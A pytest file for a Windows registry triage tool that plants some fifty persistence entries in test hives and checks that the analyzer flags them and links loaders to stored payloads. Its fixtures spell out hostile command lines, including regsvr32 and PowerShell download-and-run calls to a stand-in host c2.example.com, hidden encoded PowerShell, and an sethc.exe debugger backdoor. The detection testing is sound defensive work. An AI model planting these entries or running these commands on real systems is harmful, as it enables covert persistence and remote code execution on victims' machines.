# ruff: noqa: E501 - a row of the table is one line
"""Loaders: every place with an entry that should not be there, and chains to what they read."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from tests.content.payloads import pe, powershell
from tests.registry.lines import encoded
from tests.registry.seeds import (
    BINARY,
    CLASSES_PATH,
    DWORD,
    EXPAND,
    MULTI,
    RUN,
    SOFTWARE_PATH,
    SYSTEM_PATH,
    USER_PATH,
    Plant,
    image,
    looked_at,
    number,
    wide,
)
from triage.analyze import analyze
from triage.model import Report, Severity, Subject

_CV = "Microsoft\\Windows\\CurrentVersion"
_NT = "Microsoft\\Windows NT\\CurrentVersion"
_CCS = "ControlSet001\\"
_JS = r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)'
_SCRIPT = r"IEX (gp HKCU:\Software\Qq).w"
_ENC = f"powershell -nop -w hidden -enc {encoded(_SCRIPT)}"
_GUID = "{11112222-3333-4444-5555-666677778888}"
_TASKS = f"{_NT}\\Schedule\\TaskCache"


def _task(command: str, arguments: str) -> bytes:
    """The actions of a task, as the task cache stores them."""

    def text(value: str) -> bytes:
        raw = value.encode("utf-16-le")
        return len(raw).to_bytes(4, "little") + raw

    head = b"\x03\x00" + text("Author") + b"\x66\x66" + text("")
    return head + text(command) + text(arguments) + text("") + b"\0\0"


LOADERS: tuple[tuple[str, str, str, bytes | str, int | None], ...] = (
    (USER_PATH, RUN, "a", _JS, None),
    (USER_PATH, RUN, "b", _ENC, None),
    (USER_PATH, RUN, "", "mshta javascript:close()", None),
    (USER_PATH, RUN, "\0c", r"C:\Program Files\x\x.exe", None),
    (USER_PATH, RUN + "Once", "d", r"regsvr32 /s /u /i:http://c2.example.com/a.sct scrobj.dll", None),
    (USER_PATH, f"Software\\{_CV}\\Policies\\Explorer\\Run", "e", r"C:\Users\Public\e.exe", None),
    (USER_PATH, f"Software\\{_NT}\\Windows", "Load", r"C:\ProgramData\f.exe", None),
    (USER_PATH, f"Software\\{_NT}\\Winlogon", "Shell", r"explorer.exe,C:\ProgramData\g.exe", None),
    (USER_PATH, "Environment", "UserInitMprLogonScript", r"C:\ProgramData\h.bat", None),
    (USER_PATH, "Environment", "COR_PROFILER_PATH", r"C:\ProgramData\i.dll", None),
    (USER_PATH, "Environment", "APPDOMAIN_MANAGER_ASM", "evil, Version=1.0.0.0", None),
    (USER_PATH, "Environment", "windir", "cmd /c start x &&", None),
    (USER_PATH, "Control Panel\\Desktop", "SCRNSAVE.EXE", r"C:\Users\Public\j.scr", None),
    (USER_PATH, "Software\\Microsoft\\Command Processor", "AutoRun", r"C:\Users\Public\k.cmd", None),
    (USER_PATH, "Software\\Microsoft\\Office test\\Special\\Perf", "", r"C:\ProgramData\l.dll", None),
    (USER_PATH, "Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox", "URL",
     "http://c2.example.com/x", None),
    (USER_PATH, f"Software\\{_CV}\\Explorer\\RunMRU", "a",
     'powershell -w hidden -c "iwr http://c2.example.com/a | iex"\\1', None),
    (USER_PATH, "Software\\Microsoft\\HtmlHelp Author", "Location", r"C:\ProgramData\m.dll", None),
    (CLASSES_PATH, "ms-settings\\shell\\open\\command", "", r"C:\ProgramData\n.exe", None),
    (CLASSES_PATH, "mscfile\\shell\\open\\command", "", "cmd /c x", None),
    (CLASSES_PATH, f"CLSID\\{_GUID}\\InprocServer32", "", r"C:\Users\bob\AppData\Local\Temp\o.dll", None),
    (CLASSES_PATH, f"CLSID\\{_GUID}\\LocalServer32", "", _JS, None),
    (CLASSES_PATH, f"CLSID\\{_GUID}\\ScriptletURL", "", "http://c2.example.com/a.sct", None),
    (CLASSES_PATH, f"TypeLib\\{_GUID}\\1.0\\0\\win64", "", "script:http://c2.example.com/a", None),
    (CLASSES_PATH, "abcfile\\shell\\open\\command", "",
     "powershell -c [Reflection.Assembly]::Load((gp HKCU:\\Software\\k).b)", None),
    (SOFTWARE_PATH, f"{_CV}\\Run", "p", r"C:\Windows\Temp\p.exe", None),
    (SOFTWARE_PATH, f"Wow6432Node\\{_CV}\\Run", "q", r"wscript C:\Users\Public\x.txt:q.vbs", None),
    (SOFTWARE_PATH, f"{_NT}\\Winlogon", "Userinit",
     r"C:\Windows\system32\userinit.exe,C:\ProgramData\r.exe", None),
    (SOFTWARE_PATH, f"{_NT}\\Windows", "AppInit_DLLs", r"C:\ProgramData\s.dll", None),
    (SOFTWARE_PATH, f"{_NT}\\Image File Execution Options\\sethc.exe", "Debugger", "cmd.exe", None),
    (SOFTWARE_PATH, f"{_NT}\\SilentProcessExit\\notepad.exe", "MonitorProcess", "cmd.exe", None),
    (SOFTWARE_PATH, "Microsoft\\NetSh", "t", r"C:\ProgramData\t.dll", None),
    (SOFTWARE_PATH, "Microsoft\\Active Setup\\Installed Components\\{u}", "StubPath", _JS, None),
    (SOFTWARE_PATH, "Microsoft\\.NETFramework", "ETWEnabled", number(0), DWORD),
    (SOFTWARE_PATH, f"{_NT}\\AppCompatFlags\\InstalledSDB\\{_GUID}", "DatabasePath",
     r"C:\ProgramData\v.sdb", None),
    (SOFTWARE_PATH, f"{_NT}\\AppCompatFlags\\TelemetryController\\w", "Command", r"C:\w.exe", None),
    (SOFTWARE_PATH, "Microsoft\\WBEM\\CIMOM", "Autorecover MOFs",
     wide("C:\\Users\\Public\\x.mof\0"), MULTI),
    (SOFTWARE_PATH, f"{_TASKS}\\Tasks\\{_GUID}", "Actions", _task("powershell.exe", f"-enc {encoded('calc')}"),
     BINARY),
    (SYSTEM_PATH, _CCS + "Services\\x1", "ImagePath", f"%COMSPEC% /c {_ENC}", EXPAND),
    (SYSTEM_PATH, _CCS + "Services\\x2\\Parameters", "ServiceDll", r"C:\Windows\Temp\x.dll", EXPAND),
    (SYSTEM_PATH, _CCS + "Services\\x3", "FailureCommand", _ENC, None),
    (SYSTEM_PATH, _CCS + "Control\\Session Manager\\AppCertDlls", "x", r"C:\ProgramData\x.dll", None),
    (SYSTEM_PATH, _CCS + "Control\\Lsa", "Security Packages", wide("kerberos\0evil\0"), MULTI),
    (SYSTEM_PATH, _CCS + "Control\\Print\\Monitors\\x", "Driver", r"C:\ProgramData\x.dll", None),
    (SYSTEM_PATH, _CCS + "Services\\W32Time\\TimeProviders\\x", "DllName", r"C:\ProgramData\x.dll", None),
    (SYSTEM_PATH, _CCS + "Control\\SafeBoot", "AlternateShell", r"C:\ProgramData\x.exe", None),
    (SYSTEM_PATH, _CCS + "Control\\Session Manager", "BootExecute",
     wide("autocheck autochk *\0evil\0"), MULTI),
    (SYSTEM_PATH, _CCS + "Services\\x4", "Environment",
     wide("COR_ENABLE_PROFILING=1\0COR_PROFILER_PATH=C:\\ProgramData\\x.dll\0"), MULTI),
    (SYSTEM_PATH, _CCS + "Services\\NTDS", "LsaDbExtPt", r"C:\ProgramData\x.dll", None),
)  # fmt: skip


def planted(folder: Path, where: str, *plants: Plant) -> Report:
    return analyze(looked_at(image(folder, {where: list(plants)})))


def test_there_are_forty_loaders() -> None:
    assert len(LOADERS) >= 40


@pytest.mark.parametrize(
    ("where", "key", "name", "data", "kind"), LOADERS, ids=[f"{n}" for n in range(len(LOADERS))]
)
def test_a_loader_is_told(
    where: str, key: str, name: str, data: bytes | str, kind: int | None, tmp_path: Path
) -> None:
    report = planted(tmp_path, where, Plant(key, name, data, kind))
    found = [s for s in report.subjects if s.kind == "autostart"]
    assert found, [s.title for s in report.subjects]
    worst = max(found, key=lambda s: s.score)
    assert worst.score >= 40, (worst.title, worst.findings)
    assert dict(worst.facts)["key"].endswith(key)  # type: ignore[union-attr]


def test_a_loader_and_its_store_are_one_story(tmp_path: Path) -> None:
    plants = {
        USER_PATH: [
            Plant(RUN, "x", r"powershell -w hidden -c iex (gp HKCU:\Software\Abcde).p"),
            Plant("Software\\Abcde", "p", powershell(random.Random(2)).decode()),
            Plant("Software\\Lonely", "p", pe(random.Random(2))),
        ]
    }
    report = analyze(looked_at(image(tmp_path, plants)))
    by_key = {dict(s.facts)["key"]: s for s in report.subjects}
    loader, store = by_key[f"HKU\\bob\\{RUN}"], by_key["HKU\\bob\\Software\\Abcde"]
    assert [link.subject for link in loader.links if link.relation == "reads"] == [store.id]
    assert [link.subject for link in store.links if link.relation == "is read by"] == [loader.id]
    assert min(loader.score, store.score) >= 90
    assert any("chain" in line for line in store.explanation)
    lonely = by_key["HKU\\bob\\Software\\Lonely"]
    assert any("reads it" in line for line in lonely.explanation)
    assert lonely.links == ()


REFERENCES = [
    (USER_PATH, r"HKCU:\Software\Zz", USER_PATH, "Software\\Zz"),
    (USER_PATH, r"HKCU:\Software\Classes\Zz", CLASSES_PATH, "Zz"),
    (USER_PATH, r"HKLM:\SOFTWARE\Zz", SOFTWARE_PATH, "Zz"),
    (USER_PATH, r"HKLM:\SOFTWARE\Zz", SOFTWARE_PATH, "Wow6432Node\\Zz"),
    (USER_PATH, r"HKLM:\SYSTEM\CurrentControlSet\Zz", SYSTEM_PATH, "ControlSet001\\Zz"),
    (USER_PATH, r"Registry::HKEY_CLASSES_ROOT\Zz", SOFTWARE_PATH, "Classes\\Zz"),
    (USER_PATH, r"Registry::HKEY_CLASSES_ROOT\Zz", CLASSES_PATH, "Zz"),
    (SOFTWARE_PATH, r"HKCU:\Software\Zz", USER_PATH, "Software\\Zz"),
    (USER_PATH, r"Registry::HKEY_USERS\S-1-5-21-1-2-3-1001\Software\Zz", USER_PATH, "Software\\Zz"),
]


@pytest.mark.parametrize(("loader", "reference", "store", "key"), REFERENCES)
def test_references_lead_to_the_key(
    loader: str, reference: str, store: str, key: str, tmp_path: Path
) -> None:
    """Even a value that is nothing by itself is told when a loader runs it."""
    run = RUN if loader == USER_PATH else f"{_CV}\\Run"
    plants: dict[str, list[Plant]] = {
        path: [] for path in (USER_PATH, CLASSES_PATH, SOFTWARE_PATH, SYSTEM_PATH)
    }
    plants[loader].append(Plant(run, "x", f"powershell -c iex (gp '{reference}').w"))
    plants[store].append(Plant(key, "w", "start calc; Start-Sleep 100000; exit"))
    plants[SOFTWARE_PATH].append(
        Plant(f"{_NT}\\ProfileList\\S-1-5-21-1-2-3-1001", "ProfileImagePath", r"C:\Users\bob")
    )
    report = analyze(looked_at(image(tmp_path, plants)))
    found = [s for s in report.subjects if s.kind == "registry_value"]
    assert [dict(s.facts)["key"].rpartition("\\")[2] for s in found] == ["Zz"]  # type: ignore[union-attr]
    assert found[0].severity is Severity.CRITICAL
    assert found[0].links


def test_a_task_without_a_descriptor_is_told(tmp_path: Path) -> None:
    def report(folder: Path, *more: Plant) -> list[Subject]:
        plants = [
            Plant(
                f"{_TASKS}\\Tasks\\{_GUID}", "Actions", _task("C:\\Windows\\System32\\x.exe", "")
            ),
            Plant(f"{_TASKS}\\Tasks\\{_GUID}", "Path", "\\Evil"),
            Plant(f"{_TASKS}\\Tree\\Evil", "Id", _GUID),
            *more,
        ]
        return list(planted(folder, SOFTWARE_PATH, *plants).subjects)

    hidden = report(tmp_path / "a")
    assert [s.severity for s in hidden] == [Severity.HIGH]
    assert "no security descriptor" in hidden[0].findings[0].evidence[0]
    assert (
        report(tmp_path / "b", Plant(f"{_TASKS}\\Tree\\Evil", "SD", b"\1\0\4\x80" + bytes(30)))
        == []
    )


def test_the_users_sid_is_a_fact(tmp_path: Path) -> None:
    plants = {
        USER_PATH: [Plant(RUN, "a", _JS)],
        SOFTWARE_PATH: [
            Plant(f"{_NT}\\ProfileList\\S-1-5-21-1-2-3-1001", "ProfileImagePath", r"C:\Users\bob")
        ],
    }
    report = analyze(looked_at(image(tmp_path, plants)))
    facts = dict(report.subjects[0].facts)
    assert facts["sid"] == "S-1-5-21-1-2-3-1001"
    assert any("S-1-5-21-1-2-3-1001" in line for line in report.subjects[0].explanation)
